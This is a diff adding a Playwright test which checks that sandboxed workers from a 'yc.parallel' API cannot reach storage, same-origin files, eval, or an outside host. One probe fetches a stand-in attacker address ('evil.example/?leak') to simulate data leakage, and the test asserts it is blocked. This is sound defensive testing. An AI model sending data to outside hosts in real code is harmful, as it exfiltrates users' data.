@@ -219,6 +219,62 @@ test('a worker that user code starts is bound as it is', async ({ page, context,
   expect(asked).toEqual([]);
 });
 
+test('the workers of yc.parallel are bound as the sketch is', async ({ page, context, baseURL }) => {
+  const asked: string[] = [];
+  await context.route('https://evil.example/**', (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'evil' });
+  });
+  await context.route('https://cdn.jsdelivr.net/**', (route) =>
+    route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'known' }),
+  );
+  const site = JSON.stringify(baseURL);
+  const came = await attempt(
+    page,
+    `{
+      parallel: async () => JSON.stringify(Object.fromEntries(await yc.parallel(
+        ['name', 'origin', 'known', 'indexedDB', 'caches', 'opfs', 'file', 'elsewhere', 'eval'],
+        async (way): Promise<[string, string]> => {
+          const ways: Record<string, () => unknown> = {
+            name: () => self.name,
+            origin: () => self.origin,
+            known: async () => (await fetch('https://cdn.jsdelivr.net/x')).text(),
+            indexedDB: () => new Promise((resolve, reject) => {
+              const request = indexedDB.open('secrets');
+              request.onsuccess = () => resolve('open');
+              request.onerror = () => reject(request.error);
+            }),
+            caches: () => caches.open('secrets'),
+            opfs: () => navigator.storage.getDirectory(),
+            file: async () => (await fetch(${site} + 'embed.js')).text(),
+            elsewhere: async () => (await fetch('https://evil.example/?leak')).text(),
+            eval: () => (0, eval)('1 + 1'),
+          };
+          try {
+            return [way, 'got ' + (await ways[way]?.())];
+          } catch (error) {
+            return [way, 'denied: ' + error];
+          }
+        },
+        { workers: 2 },
+      ).all())),
+    }`,
+  );
+  expect(came.parallel).toMatch(/^got /);
+  expect(JSON.parse(came.parallel?.slice('got '.length) ?? '{}')).toEqual({
+    name: 'got yieldcast-parallel',
+    origin: 'got null',
+    known: 'got known',
+    indexedDB: denied,
+    caches: denied,
+    opfs: denied,
+    file: denied,
+    elsewhere: denied,
+    eval: denied,
+  });
+  expect(asked).toEqual([]);
+});
+
 test('what a sketch leaves in its globals is gone at the next Run, and never reaches the page', async ({ page }) => {
   const code = `import * as yc from 'yieldcast';
     const before = globalThis.mark;
